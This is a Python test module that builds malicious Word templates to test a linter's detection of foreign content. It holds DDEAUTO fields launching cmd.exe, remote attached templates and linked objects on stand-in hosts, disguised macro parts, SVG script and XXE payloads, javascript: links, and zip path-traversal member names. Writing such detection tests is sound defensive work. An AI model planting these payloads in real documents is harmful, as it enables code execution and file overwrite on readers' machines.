"""Foreign bodies for a template: a small builder, and attacks of every kind, each with its code."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Callable

from gxgen.diagnostics import Finding
from gxgen.formats.docx.closed_list import OFFICE
from gxgen.opc.package import CONTENT_TYPES, DOCUMENT, FixedZip, Members
from gxgen.opc.relations import relations_part
from gxgen.templates.lint.foreign import foreign, unreadable
from gxgen.templates.lint.parts import parts
from gxgen.templates.lint.sites import sites
from gxgen.templates.lint.whereabouts import Whereabouts

from .test_gate_kinds import Edit, both, box, edit, in_title, setting, shipped, with_note

PNG = b"\x89PNG\r\n\x1a\n" + bytes(16)
FILE = "report-2021.docx"
LISTING = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
MICROSOFT = "http://schemas.microsoft.com/office/"
VBA = "application/vnd.ms-office.vbaProject"
XML = "application/xml"
OPEN = "application/vnd.openxmlformats-officedocument."
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
Raw = Callable[[Members], bytes]


def relation(
    kind: str, target: str, owner: str = DOCUMENT, mode: str = "", identity: str = "rIdX"
) -> Edit:
    """A relation of any type, given whole, from any part; its listing is made if need be."""

    def change(members: Members) -> None:
        name = relations_part(owner) if owner else "_rels/.rels"
        listing = members.get(name, LISTING)
        how = f' TargetMode="{mode}"' if mode else ""
        added = f'<Relationship Id="{identity}" Type="{kind}" Target="{target}"{how}/>'
        members[name] = listing.replace(b"</Relationships>", f"{added}</Relationships>".encode())

    return change


def part(name: str, content: bytes, kind: str | None) -> Edit:
    """A part, and its content type if it has one."""

    def change(members: Members) -> None:
        members[name] = content
        if kind:
            entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            types = members[CONTENT_TYPES].replace(b"</Types>", entry.encode())
            members[CONTENT_TYPES] = types

    return change


def inside(
    kind: str, name: str, content: bytes, content_type: str | None, owner: str = DOCUMENT
) -> Edit:
    """A relation and the part that it leads to."""
    return both(relation(kind, f"/{name}", owner), part(name, content, content_type))


def outside(kind: str, target: str, owner: str = DOCUMENT) -> Edit:
    return relation(OFFICE + kind, target, owner, "External")


def picture(content: bytes, kind: str = "image/png") -> Edit:
    return inside(OFFICE + "image", "word/media/a.bin", content, kind)


def svg(inner: str) -> Edit:
    return picture(SVG.format(inner).encode(), "image/svg+xml")


def told(members: Members) -> list[Finding]:
    """What the closed lists say of a template's parts."""
    broken = unreadable(members, FILE)
    if broken:
        return broken
    known = [Whereabouts(each, list(sites(each, FILE)), FILE) for each in parts(members)]
    return list(foreign(members, known, FILE))


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def text(shown: str) -> str:
    return f"<w:r><w:t>{shown}</w:t></w:r>"


def complete(*pieces: str) -> str:
    """A field whose code is these runs; a piece that is no run is one of its code."""
    runs = "".join(one if one.startswith("<") else code(one) for one in pieces)
    return f"{mark('begin')}{runs}{mark('separate')}{text('')}{mark('end')}"


def simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}">{text("")}</w:fldSimple>'


def in_header(run: str) -> Edit:
    return edit("</w:p>", lambda _: f"{run}</w:p>", "word/header1.xml")  # type: ignore[arg-type]


def in_footer(run: str) -> Edit:
    return edit("</w:p>", lambda _: f"{run}</w:p>", "word/footer1.xml")  # type: ignore[arg-type]


def in_note(run: str) -> Edit:
    return with_note(f"</w:t></w:r>{run}<w:r><w:t>")


def in_box(run: str) -> Edit:
    return in_title(box(f"</w:t></w:r>{run}<w:r><w:t>"))


def in_comment(run: str) -> Edit:
    content = f'<w:comments {W_NS}><w:comment w:id="1"><w:p>{run}</w:p></w:comment></w:comments>'
    kind = f"{OPEN}wordprocessingml.comments+xml"
    return inside(OFFICE + "comments", "word/comments.xml", content.encode(), kind)


def chunk(kind: str, ending: str) -> Edit:
    return both(
        inside(OFFICE + "aFChunk", f"word/chunk.{ending}", b"<a/>", kind),
        edit("</w:body>", '<w:altChunk r:id="rIdX"/></w:body>'),
    )


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
IGNORED = '<x:a xmlns:x="urn:x">{}</x:a>'
FIELDS: dict[str, Edit] = {
    "DDEAUTO": in_title(complete(DDE)),
    "DDE over three runs": in_title(complete("D", "D", "E c:\\\\a.exe")),
    "DDE in small letters": in_title(complete(" ddeauto c:\\\\a.exe")),
    "DDE simple": in_title(simple("DDE a b")),
    "DDE with a comment inside": in_title(complete("DD<!-- -->E a b")),
    "DDE in open text": in_title(complete(text("DDE"), " a b")),
    "DDE without a result": in_title(mark("begin") + code("DDE a b") + mark("end")),
    "DDE without an end": in_title(mark("begin") + code("DDE a b")),
    "DDE without a beginning": in_title(code("DDE a b")),
    "DDE in IF": in_title(complete("IF 1=1 ", complete("DDE a b"), " x")),
    "DDE from QUOTE": in_title(complete(complete("QUOTE 68 68 69"), " a b")),
    "DDE from REF": in_title(complete(complete("REF a"), " a b")),
    "code that a field inside may make": in_title(complete(complete("REF a"), "PAGE")),
    "DDE in a result": in_title(
        mark("begin") + code("PAGE") + mark("separate") + complete("DDE a b") + mark("end")
    ),
    "DDE in a header": in_header(complete("DDE a b")),
    "DDE in a footer": in_footer(complete("DDE a b")),
    "DDE in a footnote": in_note(complete("DDE a b")),
    "DDE in a comment": in_comment(complete("DDE a b")),
    "DDE in a box": in_box(complete("DDE a b")),
    "PAGE that some pass over": in_title(complete(IGNORED.format(code("PAGE ")), "DDE a b")),
    "PAGE in a fallback": in_title(
        complete(
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/'
            f'2006"><mc:Fallback>{code("PAGE ")}</mc:Fallback></mc:AlternateContent>',
            "DDE a b",
        )
    ),
    "end that some pass over": in_title(
        mark("begin") + code("PAGE") + IGNORED.format(mark("separate")) + code("DDE") + mark("end")
    ),
    "code over two paragraphs": in_title(
        f"{mark('begin')}{code('PAGE ')}</w:p><w:p>{code('DDE a b')}{mark('end')}"
    ),
    "tag that makes a code": in_title(complete("{{ 'DD' ~ 'E' }} a b")),
    "tag that takes half of a code away": in_title(
        complete(text("{% if 0 %}"), "PAGE ", text("{% endif %}"), "DDE a b")
    ),
    "tag in an attribute of a code": in_title(
        mark("begin")
        + '<w:r w:rsidR="{% if 0 %}"><w:instrText>PAGE </w:instrText></w:r>'
        + '<w:r w:rsidR="{% endif %}"><w:instrText>DDE a b</w:instrText></w:r>'
        + mark("end")
    ),
    "deleted code that is not deleted": in_title(
        complete("<w:r><w:delInstrText>PAGE </w:delInstrText></w:r>", "DDE a b")
    ),
    "macro of a form field": in_title(
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="AutoOpen"/>'
        f"</w:ffData></w:fldChar></w:r>{code('FORMTEXT')}{mark('end')}"
    ),
    "INCLUDEPICTURE": in_header(complete('INCLUDEPICTURE "http://a.example/a.png" \\d')),
    "INCLUDETEXT": in_title(complete('INCLUDETEXT "\\\\\\\\a\\\\b.docx"')),
    "LINK": in_title(complete("LINK Excel.Sheet.12 a.xlsx R1C1 \\a \\p")),
    "RD": in_title(simple("RD a.docx")),
    "DATABASE": in_title(complete('DATABASE \\d "a.mdb"')),
    "MACROBUTTON": in_title(complete("MACROBUTTON AutoOpen 点这里")),
    "PRINT": in_footer(complete('PRINT \\p page "x"')),
    "FILLIN": in_title(simple("FILLIN 姓名")),
    "MERGEFIELD": in_title(simple("MERGEFIELD 姓名")),
    "unknown code": in_title(complete("WEBFETCH http://a.example")),
    "quoted code": in_title(complete('"DDE" a b')),
    "link to a file": in_title(complete('HYPERLINK "file:///c:/a.exe"')),
    "link to a share": in_title(complete("HYPERLINK \\\\\\\\a\\\\b.exe")),
    "link to a file behind its tip": in_title(complete('HYPERLINK \\o "http://a.cn" "a.exe"')),
    "link to what a field says": in_title(complete("HYPERLINK ", complete("REF a"))),
    "link to a place that a field says": in_title(
        complete('HYPERLINK \\l "', complete("REF a"), '"')
    ),
    "link to a script": in_title(simple("HYPERLINK javascript:alert(1)")),
}
RELATIONS: dict[str, Edit] = {
    "linked picture": outside("image", "http://a.example/a.png"),
    "picture from a share": outside("image", "\\\\a\\b.png", "word/header1.xml"),
    "attached template": outside(
        "attachedTemplate", "http://a.example/a.dotm", "word/settings.xml"
    ),
    "attached template on a disk": outside("attachedTemplate", "file:///C:\\a.dotm", DOCUMENT),
    "linked object": outside("oleObject", "mhtml:http://a.example/a.html!x"),
    "chunk from outside": outside("aFChunk", "http://a.example/a.html"),
    "subdocument": outside("subDocument", "a.docx"),
    "frame": outside("frame", "http://a.example/", "word/webSettings.xml"),
    "mail merge source": outside("mailMergeSource", "file:///C:\\a.xlsx", "word/settings.xml"),
    "font from outside": outside("font", "http://a.example/a.odttf", "word/fontTable.xml"),
    "style sheet from outside": outside("transform", "http://a.example/a.xsl", "word/settings.xml"),
    "custom XML from outside": outside("customXml", "http://a.example/a.xml"),
    "video from outside": outside("video", "https://a.example/a.mp4"),
    "header from outside": outside("header", "http://a.example/h.xml"),
    "thumbnail from outside": outside("metadata/thumbnail", "http://a.example/a.png", ""),
    "unknown relation outside": relation("urn:x", "http://a.example/", mode="External"),
    "link to a program": outside("hyperlink", "file:///c:/windows/system32/calc.exe"),
    "link to a share": outside("hyperlink", "\\\\a\\b.exe"),
    "link to a neighbour file": outside("hyperlink", "a.exe"),
    "link to a script": outside("hyperlink", "javascript:alert(1)"),
    "link to a protocol of Office": outside("hyperlink", "ms-word:ofe|u|http://a.example/a.docx"),
    "link to a search": outside("hyperlink", "search-ms:query=a"),
    "link to a web folder": outside("hyperlink", "ftp://a.example/a.exe"),
    "mode in small letters": relation(OFFICE + "image", "http://a.example/a.png", mode="external"),
    "mode that is none": relation(OFFICE + "image", "a.png", mode="Elsewhere"),
    "address that says it is inside": relation(OFFICE + "image", "http://a.example/a.png"),
    "share that says it is inside": relation(OFFICE + "image", "\\\\a\\b.png", mode="Internal"),
    "disk that says it is inside": relation(OFFICE + "image", "file:///c:/a.png"),
    "picture named in an old drawing": in_title(
        '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://a.cn/a.png"/>'
        "</w:pict></w:r>"
    ),
    "link to a file in an old drawing": in_title(
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file:///c:/a.exe"/>'
        "</w:pict></w:r>"
    ),
}
PARTS: dict[str, Edit] = {
    "embedded object": inside(
        OFFICE + "oleObject", "word/embeddings/o.bin", b"\xd0\xcf", f"{OPEN}oleObject"
    ),
    "embedded workbook": inside(
        OFFICE + "package", "word/embeddings/a.xlsx", b"PK", f"{OPEN}spreadsheetml.sheet"
    ),
    "control": inside(
        OFFICE + "control", "word/activeX/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"
    ),
    "macros by another name": inside(
        MICROSOFT + "2006/relationships/vbaProject", "word/theme/a.bin", b"\xd0\xcf", VBA
    ),
    "macros without a relation": part("word/a.bin", b"\xd0\xcf", VBA),
    "macros under another relation": inside(OFFICE + "image", "word/media/a.png", b"\xd0\xcf", VBA),
    "keys": inside(
        MICROSOFT + "2006/relationships/keyMapCustomizations",
        "word/customizations.xml",
        b"<a/>",
        "application/vnd.ms-word.keyMapCustomizations+xml",
    ),
    "ribbon": inside(
        MICROSOFT + "2007/relationships/ui/extensibility",
        "customUI/customUI14.xml",
        b"<a/>",
        XML,
        "",
    ),
    "ribbon of 2007": inside(
        MICROSOFT + "2006/relationships/ui/extensibility",
        "customUI/customUI.xml",
        b"<a/>",
        None,
        "",
    ),
    "task pane": inside(
        MICROSOFT + "2011/relationships/webextensiontaskpanes",
        "word/webextensions/taskpanes.xml",
        b"<a/>",
        "application/vnd.ms-office.webextensiontaskpanes+xml",
        "",
    ),
    "chunk of HTML": chunk("text/html", "html"),
    "chunk of RTF": chunk("application/rtf", "rtf"),
    "chunk of Word": chunk(f"{OPEN}wordprocessingml.document.main+xml", "docx"),
    "chunk under the Strict name": inside(
        "http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk",
        "word/a.xml",
        b"<a/>",
        None,
    ),
    "chart": inside(
        OFFICE + "chart", "word/charts/chart1.xml", b"<a/>", f"{OPEN}drawingml.chart+xml"
    ),
    "film": inside(OFFICE + "video", "word/media/a.mp4", b"x", "video/mp4"),
    "unknown relation": inside("http://a.example/image", "word/a.xml", b"<a/>", None),
    "relation without a type": relation("", "styles.xml"),
    "picture that is a program": picture(b"MZ" + bytes(64)),
    "picture that is a page": picture(b"<html/>"),
    "picture that is a package": picture(b"PK\x03\x04"),
    "header that is custom XML": inside(OFFICE + "header", "word/h.xml", b"<a/>", XML),
    "program that nobody refers to": part("word/a.exe", b"MZ", None),
    "file without an ending": part("readme", b"x", None),
    "unknown kind of part": part("word/a.xml", b"<a/>", "application/x-a+xml"),
    "script in SVG": svg("<script>alert(1)</script>"),
    "handler in SVG": svg('<g onload="alert(1)"/>'),
    "picture from outside in SVG": svg('<image xlink:href="http://a.example/a.png"/>'),
    "use of a file in SVG": svg('<use href="file:///c:/a.svg#a"/>'),
    "font from outside in SVG": svg("<style>@import url(http://a.example/a.css);</style>"),
    "fill from outside in SVG": svg('<rect fill="url(http://a.example/a.svg#a)"/>'),
    "page in SVG": svg("<foreignObject><p/></foreignObject>"),
    "SVG in SVG": svg('<image href="data:image/svg+xml;base64,AA"/>'),
    "document type in SVG": picture(
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///a">]><svg/>', "image/svg+xml"
    ),
    "mail merge by its query": setting(
        '<w:mailMerge><w:connectString w:val="DSN=a"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    ),
}
BROKEN: dict[str, Edit] = {
    "entities in a part of another name": inside(
        OFFICE + "header",
        "word/h.foo",
        b'<!DOCTYPE a [<!ENTITY b "c">]><a/>',
        f"{OPEN}wordprocessingml.header+xml",
    ),
    "part in another encoding": part(
        "word/people.xml", '<?xml version="1.0" encoding="GBK"?><a>甲</a>'.encode("gbk"), XML
    ),
    "part in UTF-7": part(
        "word/people.xml", b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>', XML
    ),
    "part in EBCDIC": part(
        "word/people.xml", '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"), XML
    ),
    "part that is cut off": part("customXml/item1.xml", b"<a>", XML),
    "header under the Strict name": edit(
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://&#112;url.oclc.org/ooxml/wordprocessingml/main",
        "word/header1.xml",
    ),
    "relations that are cut off": edit("</Relationships>", "", "_rels/.rels"),
}
NAMES = (
    "../evil.dll",
    "word/../../evil.dll",
    "/word/a.xml",
    "word\\a.xml",
    "..\\..\\a.exe",
    "C:/a.exe",
    "C:a",
    "\\\\a\\b\\c.dll",
    "word//a.xml",
    "word/./a.xml",
    "word/.../a.xml",
    "word/a.xml.",
    "word/a .",
    "word/a\nb.xml",
    "word/a\u202egnp.exe",
    "word/a\u200b.xml",
    "word/%2e%2e/a.xml",
    "word/a%5Cb.xml",
    "word/a:b",
    "word/a|b",
    "word/a?.xml",
    "WORD/DOCUMENT.XML",
    "word/Styles.xml",
    "a/../",
)


def zipped(style: str, change: Edit) -> bytes:
    members = shipped(style)
    change(members)
    return FixedZip({}).build(members)


def with_member(style: str, name: str, mode: int = 0) -> bytes:
    """A template with one more member, whose name nothing has looked at."""
    out = io.BytesIO(FixedZip({}).build(shipped(style)))
    info = zipfile.ZipInfo("placeholder")
    info.filename = info.orig_filename = name
    info.external_attr = mode << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, b"x")
    return out.getvalue()


def with_symlink(style: str) -> bytes:
    return with_member(style, "word/media/a.png", stat.S_IFLNK | 0o777)
